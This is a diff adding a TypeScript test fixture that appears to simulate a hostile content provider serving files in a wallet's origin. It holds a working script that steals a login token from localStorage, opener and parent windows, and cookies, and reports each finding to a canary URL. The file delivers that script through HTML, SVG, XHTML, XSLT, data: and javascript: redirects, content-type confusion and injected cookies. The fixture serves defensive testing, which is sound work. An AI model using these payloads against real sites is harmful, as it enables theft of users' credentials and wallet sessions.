@@ -1,0 +1,132 @@
+import type { IncomingMessage, ServerResponse } from 'node:http'
+import { openProvider } from './nginx.ts'
+
+/** What the member's login is kept as, for whoever finds it. */
+export const TOKEN = 'token-of-the-member'
+
+/**
+ * Looks for the token in every way that a page of the same origin has, and tells each finding to the provider before
+ * the page has loaded. No < and no &: it stands in XML as well.
+ */
+const theft = `
+  const ways = {
+    storage: () => localStorage.getItem('token'),
+    opener: () => opener.localStorage.getItem('token'),
+    parent: () => parent === self ? 'none' : parent.localStorage.getItem('token'),
+    tab: () => { const tab = open('/'); try { return tab.localStorage.getItem('token') } finally { tab.close() } },
+    cookies: () => document.cookie,
+    worker: () => (navigator.serviceWorker.register('/api/worker.js', { scope: '/' }), 'asked for'),
+  }
+  for (const [way, steal] of Object.entries(ways)) {
+    let got
+    try { got = steal() } catch (error) { got = error.name }
+    const told = new XMLHttpRequest()
+    told.open('GET', 'CANARY?' + encodeURIComponent(way + ': ' + got), false)
+    try { told.send() } catch {}
+  }`
+const html = `<!doctype html><title>x</title><script>${theft}</script>`
+const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${theft}]]></script></html>`
+const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${theft}]]></script></svg>`
+const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${theft.replaceAll('>', '&gt;')}</script></html></xsl:template></xsl:stylesheet>`
+const styled = (href: string) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${href}"?><a/>`
+
+interface Answer {
+  status?: number
+  type?: string
+  body?: string
+  headers?: Record<string, string | string[]>
+  /** What comes of it where no header keeps it from that; of others nothing does, in today's Chromium. */
+  harm?: 'runs' | 'forgets'
+}
+const own = "script-src * 'unsafe-inline' 'unsafe-eval'; sandbox allow-scripts allow-same-origin"
+const page: Answer = { type: 'text/html', body: html, harm: 'runs' }
+
+/** What a provider that was broken into, or lets anybody lay files beside its own, may answer in the wallet's origin. */
+export const answers: Record<string, Answer> = {
+  html: page,
+  svg: { type: 'image/svg+xml', body: svg, harm: 'runs' },
+  xhtml: { type: 'application/xhtml+xml', body: xhtml, harm: 'runs' },
+  xml: { type: 'text/xml', body: xhtml, harm: 'runs' },
+  xslt: { type: 'text/xml', body: styled('/api/sheet.xsl'), harm: 'runs' },
+  'xslt of data': {
+    type: 'text/xml',
+    body: styled(`data:text/xml,${encodeURIComponent(sheet)}`),
+    harm: 'runs',
+  },
+  'no type': { body: html, harm: 'runs' },
+  'an unknown type': { type: 'x/y', body: html },
+  'a picture that is a page': { type: 'image/png', body: html },
+  'json that is a page': { type: 'application/json', body: html },
+  'an error page': { ...page, status: 500 },
+  'a page not found': { ...page, status: 404, type: 'text/html; charset=utf-7' },
+  'a policy of its own': {
+    ...page,
+    headers: { 'content-security-policy': own, 'x-content-type-options': 'sniff' },
+  },
+  'cookies of its own': {
+    ...page,
+    headers: { 'set-cookie': ['token=evil; Path=/', `__Host-x=${TOKEN}`, 'locale=xx; Path=/; HttpOnly'] },
+  },
+  'a script to load first': {
+    ...page,
+    headers: { link: '</api/html>; rel=preload; as=script, </api/html>; rel=stylesheet' },
+  },
+  'data as the next address': {
+    status: 302,
+    headers: { location: `data:text/html,${encodeURIComponent(html)}` },
+  },
+  'a script as the next address': {
+    status: 302,
+    headers: { location: `javascript:${encodeURIComponent(theft)}` },
+  },
+  'itself as the next address': { status: 307, headers: { location: '/media/html' }, harm: 'runs' },
+  'a wish that the browser forget': {
+    type: 'image/gif',
+    body: 'GIF89a',
+    headers: { 'clear-site-data': '"storage"' },
+    harm: 'forgets',
+  },
+}
+
+const helpers: Record<string, Answer> = {
+  canary: {},
+  'worker.js': {
+    type: 'text/javascript',
+    body: "fetch('/api/canary?worker:%20runs')",
+    headers: { 'service-worker-allowed': '/' },
+  },
+  'sheet.xsl': { type: 'text/xml', body: sheet },
+}
+
+function say(request: IncomingMessage, response: ServerResponse, answer: Answer) {
+  const { status = 200, type, body = '', headers = {} } = answer
+  // The address that the browser knows: a page of data has none of its own.
+  const canary = `http://${request.headers['x-forwarded-host']}/api/canary`
+  const filled = (text: string) => text.replaceAll('CANARY', canary)
+  const { location, ...others } = headers
+  response
+    .writeHead(status, {
+      ...(type && { 'content-type': type }),
+      ...(location && { location: filled(`${location}`) }),
+      ...others,
+    })
+    .end(filled(body))
+}
+
+/** Answers `/any/NAME` as named above, and `/any/elsewhere` by sending on to `elsewhere`. */
+export async function openHostileProvider(elsewhere: string) {
+  const provider = await openProvider((request, response, { path }) => {
+    const name = decodeURIComponent(path.split('/')[2] ?? '').split('?')[0] ?? ''
+    if (name === 'elsewhere') say(request, response, { status: 307, headers: { location: elsewhere } })
+    else say(request, response, helpers[name] ?? answers[name] ?? page)
+  })
+  return {
+    ...provider,
+    /** What its scripts told since it was last asked. */
+    told: () =>
+      provider.calls
+        .splice(0)
+        .flatMap(({ path }) => path.split('/api/canary?')[1] ?? [])
+        .map(decodeURIComponent),
+  }
+}
